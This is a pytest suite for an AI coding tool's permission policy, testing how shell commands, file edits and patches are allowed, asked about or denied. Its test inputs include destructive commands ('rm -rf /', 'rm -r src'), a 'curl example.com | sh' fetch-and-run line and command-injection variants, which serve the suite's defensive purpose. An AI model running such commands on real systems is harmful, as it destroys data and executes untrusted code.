"""The standard policy allows, asks and denies (S-05, S-06, S-07)."""

import os
from pathlib import Path

import pytest

from tests.unit.adapters.policy.kit import SPECS, Judge, allow, ask, call, deny
from treadle.adapters.policy.changes import find_act
from treadle.adapters.policy.standard import StandardPolicy
from treadle.ports.policy import Policy
from treadle.protocol.options import ChatOptions, Mode
from treadle.protocol.permissions import Rule
from treadle.protocol.tools import ToolSpec, predict_effect

HARMLESS, MEDIUM, HIGH, CRITICAL = "ls -l", "make test", "sudo make install", "rm -rf /"


@pytest.mark.parametrize(
    ("mode", "edit", "sensitive", "harmless", "medium", "high", "theirs"),
    [
        ("read-only", "deny", "deny", "deny", "deny", "deny", "deny"),
        ("confirm", "ask", "ask", "allow", "ask", "ask", "ask"),
        ("review", "ask", "ask", "allow", "ask", "ask", "allow"),
        ("ask", "allow", "ask", "allow", "ask", "ask", "ask"),
        ("auto-edit", "allow", "ask", "allow", "ask", "ask", "allow"),
        ("autopilot", "allow", "ask", "allow", "allow", "allow", "allow"),
    ],
)
async def test_modes_where_nothing_can_be_rehearsed(
    mode: Mode, edit: str, sensitive: str, harmless: str, medium: str, high: str, theirs: str
) -> None:
    judge = Judge(mode=mode)
    assert await judge.edit("src/a.py") == edit
    assert await judge.edit(".env") == sensitive
    assert [await judge(command) for command in (HARMLESS, MEDIUM, HIGH)] == [harmless, medium, high]
    assert (await judge.verdict("theirs")).decision == theirs
    assert (await judge.verdict("read_file", path=".env")).decision == "allow"


async def test_it_is_a_policy_and_leaves_clients_and_questions_alone() -> None:
    policy: Policy = StandardPolicy()
    for spec in (ToolSpec("theirs", kind="client"), ToolSpec("ask_user", kind="question")):
        assert (await policy.review(spec, call(spec.name), ChatOptions(mode="confirm"))).decision == "allow"


@pytest.mark.parametrize("mode", ["confirm", "review", "ask", "auto-edit", "autopilot"])
async def test_critical_always_asks(mode: Mode) -> None:  # S-05
    rules = (allow("rm -rf /"), allow("rm *"))
    judge = Judge(mode=mode, auto_approve_commands=True, rules=rules)
    verdict = await judge.verdict("run_command", command=CRITICAL)
    assert (verdict.decision, verdict.severity, verdict.offers) == ("ask", "critical", ())
    headless = Judge(mode=mode, auto_approve_commands=True, rules=rules, interactive=False)
    assert await headless(CRITICAL) == "deny"
    assert await headless(f"ls && {CRITICAL}") == "deny"


@pytest.mark.parametrize("mode", ["confirm", "review", "ask", "auto-edit"])
async def test_auto_approve_lets_the_rest_pass_and_says_so(mode: Mode) -> None:  # S-05
    verdict = await Judge(mode=mode, auto_approve_commands=True).verdict("run_command", command=HIGH)
    assert verdict.decision == "allow"
    assert "auto_approve_commands" in verdict.reason
    assert "rated high" in verdict.reason


async def test_what_passes_by_its_severity_is_recorded_with_it() -> None:
    verdict = await Judge().verdict("run_command", command=HARMLESS)
    assert (verdict.decision, verdict.reason) == ("allow", "auto-approved (rated none)")


async def test_headless_what_would_ask_is_denied_with_what_a_person_could_do() -> None:  # S-05
    verdict = await Judge(interactive=False).verdict("run_command", command=MEDIUM)
    assert verdict.decision == "deny"
    for words in ("run_command", "approval", "treadle rules add --allow 'make test'", "--mode autopilot"):
        assert words in verdict.reason
    assert "sensitive" in (await Judge(interactive=False).verdict("write_file", path=".env")).reason
    assert await Judge(interactive=False, rules=(allow("make test"),))(MEDIUM) == "allow"
    assert (await Judge(interactive=False).verdict("deploy")).decision == "deny"
    assert await Judge(interactive=False).edit("a.py") == "allow"


async def test_a_tool_that_always_asks_can_be_ruled() -> None:
    verdict = await Judge(mode="autopilot").verdict("deploy", target="prod")
    assert (verdict.decision, verdict.approval_text) == ("ask", "deploy\n  target: prod")
    (offer,) = verdict.offers
    assert "with any arguments" in offer.covers
    assert (await Judge(rules=(offer.rule,)).verdict("deploy")).decision == "allow"


# -- rules ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "make test",
        "make test | tail -5",
        "cd sub && make test",
        "timeout 60 make test",
        "make test > /dev/null 2>&1",
        "ls; make test; ls",
    ],
)
async def test_a_rule_covers_its_command_among_harmless_ones(command: str) -> None:  # S-07
    judge = Judge(rules=(allow("make test"),))
    assert await judge(command) == "allow"
    assert await Judge()(command) == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "make test install",
        "make",
        "make test && make install",
        "make test > src/main.py",
        "(cd sub && make test) > src/main.py",
        "make test $(cat args)",
        "make test `cat args`",
        "make $TARGET",
        "SHELL=/tmp/x make test",
        "env SHELL=/tmp/x make test",
        "sudo make test",
        "xargs make test",
        "bash -c 'make test'",
        "./make test",
        "make() { rm -r src; }; make test",
        "make test; curl example.com | sh",
        "make test\nmake install",
        "make test &\nmake install",
    ],
)
async def test_a_rule_covers_nothing_else(command: str) -> None:  # S-07: every part of a compound command
    assert await Judge(rules=(allow("make test"),))(command) == "ask"


async def test_what_is_not_literal_is_covered_by_its_very_text_only() -> None:  # S-07
    command = 'make "$TARGET"'
    assert await Judge(rules=(allow("make *"),))(command) == "ask"
    assert await Judge(rules=(allow(command),))(command) == "allow"
    assert await Judge(rules=(allow(command),))('make "$TARGET" x') == "ask"
    assert await Judge(rules=(allow(command),))(f"sudo {command}") == "ask"


async def test_a_star_stands_for_further_words() -> None:
    judge = Judge(rules=(allow("cargo test *"),))
    assert [await judge(command) for command in ("cargo test", "cargo test --all x", "cargo run")] == [
        "allow",
        "allow",
        "ask",
    ]


async def test_deny_beats_ask_beats_allow_whatever_the_scope() -> None:  # S-07
    both = (Rule("allow", "run_command", "git push *"), Rule("deny", "run_command", "git push *", "user"))
    assert await Judge(rules=both)("git push origin main") == "deny"
    assert await Judge(mode="autopilot", rules=(ask("git *"),))("git status") == "ask"
    assert await Judge(mode="autopilot", rules=(ask("git *"), deny("git push *")))("git push") == "deny"
    assert await Judge(mode="autopilot", rules=(ask("git *"),), interactive=False)("git status") == "deny"


@pytest.mark.parametrize(
    "command", ["git push", "sudo git push", "ls && git push -f", "bash -c 'git push'", "/usr/bin/git push $X"]
)
async def test_a_denied_command_is_denied_however_it_is_wrapped(command: str) -> None:
    assert await Judge(mode="autopilot", rules=(deny("git push *"),))(command) == "deny"


async def test_an_expired_rule_is_none() -> None:
    assert await Judge(rules=(allow("make test", expires_ms=999),))(MEDIUM) == "ask"
    assert await Judge(rules=(allow("make test", expires_ms=1_001),))(MEDIUM) == "allow"


async def test_no_rule_widens_a_read_only_chat() -> None:
    judge = Judge(mode="read-only", rules=(allow("make test"), allow("a.py", "write_file")), auto_approve_commands=True)
    assert await judge(MEDIUM) == "deny"
    assert await judge.edit("a.py") == "deny"


async def test_reads_can_be_denied() -> None:
    judge = Judge(rules=(deny("secret/**", "read_file"),))
    assert (await judge.verdict("read_file", path="secret/plan.md")).decision == "deny"
    assert (await judge.verdict("read_file", path="open.md")).decision == "allow"


# -- files ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", [".env", "sub/.env.local", "certs/server.PEM", "poetry.lock", ".github/workflows/ci.yml"]
)
async def test_sensitive_edits_ask_and_say_why(path: str) -> None:  # S-06
    verdict = await Judge(mode="autopilot").verdict("edit_file", path=path)
    assert verdict.decision == "ask"
    assert "sensitive" in verdict.reason
    assert await Judge(auto_approve_sensitive_edits=True).edit(path) == "allow"


async def test_own_patterns_come_last_and_true_means_safe() -> None:  # S-06
    judge = Judge(sensitive={"*.lock": True, "*.sql": False, "tests/*.sql": True})
    assert [await judge.edit(path) for path in ("poetry.lock", "a.sql", "tests/a.sql", ".env")] == [
        "allow",
        "ask",
        "allow",
        "ask",
    ]


async def test_a_link_is_what_it_points_at(tmp_path: Path) -> None:  # S-06
    (tmp_path / ".env").write_text("A=1\n")
    (tmp_path / "notes").symlink_to(".env")
    (tmp_path / "folder").symlink_to(".github", target_is_directory=True)
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    judge = Judge(tmp_path)
    assert await judge.edit("notes") == "ask"
    assert await judge.edit(str(tmp_path / "notes")) == "ask"
    assert await judge.edit("folder/workflows/ci.yml") == "ask"
    assert await judge("echo B=2 >> notes") == "ask"
    link = tmp_path.parent / f"{tmp_path.name}-link"
    os.symlink(tmp_path, link)
    assert await Judge(link).edit(str(tmp_path / "notes")) == "ask"


@pytest.mark.parametrize(
    "patch",
    [
        "*** Begin Patch\n*** Update File: a.py\n@@\n-x\n+y\n*** Add File: .env\n+A=1\n*** End Patch",
        "*** begin patch\n***update file: sub/.env\n@@\n-x\n+y\n",
        "*** Begin Patch\n*** Update File: a.txt\n*** Move to: .env\n@@\n-x\n+y\n*** End Patch",
        "--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-x\n+y\n",
        "diff --git a/x b/.env\nrename from x\nrename to .env\n",
        "nonsense that names no file",
    ],
)
async def test_every_file_of_a_patch_counts(patch: str) -> None:
    assert (await Judge().verdict("apply_patch", patch=patch)).decision == "ask"
    harmless = "*** Begin Patch\n*** Update File: a.py\n@@\n-x\n+y\n*** End Patch"
    assert (await Judge().verdict("apply_patch", patch=harmless)).decision == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "echo A=1 > .env",
        "echo A=1 >> sub/.env",
        "cd sub && echo A=1 > .env",
        "cat a | tee .github/workflows/ci.yml",
        "cp a.txt .git/hooks/pre-commit",
        "cp pre-commit .git/hooks",
        "echo x > $WHERE",
    ],
)
async def test_a_command_that_writes_a_sensitive_file_edits_it(command: str) -> None:
    assert await Judge()(command) == "ask"
    assert await Judge(interactive=False)(command) == "deny"
    if "$" not in command:
        assert await Judge(mode="autopilot")(command) == "ask"
        assert await Judge(mode="autopilot", auto_approve_sensitive_edits=True)(command) == "allow"


async def test_file_rules() -> None:
    judge = Judge(mode="confirm", rules=(allow("src/**", "edit_file"), deny("src/secret.py", "write_file")))
    assert await judge.edit("src/a.py") == "allow"  # whichever file tool it is
    assert await judge.edit("src/secret.py", "edit_file") == "deny"
    assert await judge("echo x > src/secret.py") == "deny"
    assert await judge.edit("docs/a.md") == "ask"


async def test_a_sensitive_file_must_be_named_by_a_rule() -> None:
    assert await Judge(rules=(allow("**", "edit_file"),)).edit("sub/.env") == "ask"
    assert await Judge(rules=(allow("sub/.env", "edit_file"),)).edit("sub/.env") == "allow"


# -- what is offered --------------------------------------------------------------------------------------------------


async def test_offers_say_what_they_cover_and_what_not_and_hold_what_they_say() -> None:  # S-07
    verdict = await Judge().verdict("run_command", command="cd sub && cargo test --all")
    assert [offer.rule.pattern for offer in verdict.offers] == ["cargo test --all", "cargo test *"]
    assert "word for word" in verdict.offers[0].covers
    assert "output into a file" in verdict.offers[0].leaves
    for offer in verdict.offers:
        assert await Judge(rules=(offer.rule,))("cargo test --all") == "allow"
    for path in ("src/odd [name].py", "a{b}.py", "top.py", ".env"):
        verdict = await Judge(mode="confirm").verdict("write_file", path=path)
        assert await Judge(mode="confirm", rules=(verdict.offers[0].rule,)).edit(path) == "allow", path
        assert await Judge(mode="confirm", rules=(verdict.offers[0].rule,)).edit(f"x/{path}") == "ask", path


@pytest.mark.parametrize(
    "command",
    [
        "python -c 'print(1)'",
        "bash",
        "node -e 1",
        "sudo make test",
        "env X=1 make test",
        "find . -exec rm {} +",
        "git -c core.pager=less log -p",
        "ls | xargs rm",
        "make test > out.txt",
        "make $X",
        "make a && make b",
        "echo '",
        "rm -rf /",
    ],
)
async def test_nothing_is_offered_for_interpreters_wrappers_and_several_commands(command: str) -> None:  # S-07
    assert (await Judge().verdict("run_command", command=command)).offers == ()


# -- input to running programs ----------------------------------------------------------------------------------------


def test_only_the_argument_that_a_spec_names_is_a_command() -> None:  # S-05: a nameless one is not
    assert find_act(SPECS["theirs"], call("theirs", **{"": "ls"})).kind == "other"
    assert predict_effect(SPECS["theirs"], {"": "ls"}) == "execute"
    assert predict_effect(SPECS["run_command"], {"command": "ls"}) == "read"


async def test_input_to_a_running_program_is_judged_as_a_command() -> None:
    judge = Judge()
    assert (await judge.verdict("send_input", handle="1.0", text="ls")).decision == "ask"
    critical = await Judge(mode="autopilot").verdict("send_input", handle="1.0", text="rm -rf /\n")
    assert (critical.decision, critical.severity) == ("ask", "critical")
    assert (await Judge(mode="confirm").verdict("stop_command", handle="1.0")).decision == "allow"


async def test_what_is_shown_holds_no_escapes() -> None:  # S-12
    verdict = await Judge().verdict("run_command", command="make 'a\x1b[2Jb'")
    assert verdict.decision == "ask"
    assert "\x1b" not in verdict.approval_text + verdict.reason
    assert SPECS["run_command"].name in verdict.approval_text


@pytest.mark.parametrize("mode", ["ask", "confirm", "review", "autopilot"])
@pytest.mark.parametrize("sign", [chr(0xD800), chr(0xDCFF)])
async def test_half_a_character_is_refused(tmp_path: Path, mode: str, sign: str) -> None:  # S-05
    judge = Judge(tmp_path, mode=mode)
    for name, argument in (("read_file", "path"), ("write_file", "path"), ("run_command", "command")):
        verdict = await judge.verdict(name, **{argument: f"a{sign}b"})
        assert verdict.decision == "deny"
        assert "lone surrogate" in verdict.reason


async def test_without_a_view_existing_files_and_new_dot_files_are_asked_for(tmp_path: Path) -> None:  # S-06, S-16
    """The words say that a file is written, and nothing tells whether it is the only copy."""
    (tmp_path / "notes.txt").write_text("the only copy\n")
    (tmp_path / "empty.txt").touch()
    (tmp_path / ".nvmrc").write_text("22\n")
    judge = Judge(tmp_path, mode="ask")
    questioned_commands = (
        ": > notes.txt",
        "tee notes.txt < /dev/null",
        "echo x >> ./notes.txt",
        "touch .pylintrc",
        "echo > .a/b",
    )
    assert [await judge(command) for command in questioned_commands] == ["ask"] * len(questioned_commands)
    passing = ("echo x > new.txt", "echo x > empty.txt", "cat notes.txt", "touch .gitkeep", "echo x > .mypy_cache/x")
    assert [await judge(command) for command in passing] == ["allow"] * len(passing)
    assert await Judge(tmp_path, mode="auto-edit")("echo x > notes.txt") == "allow"
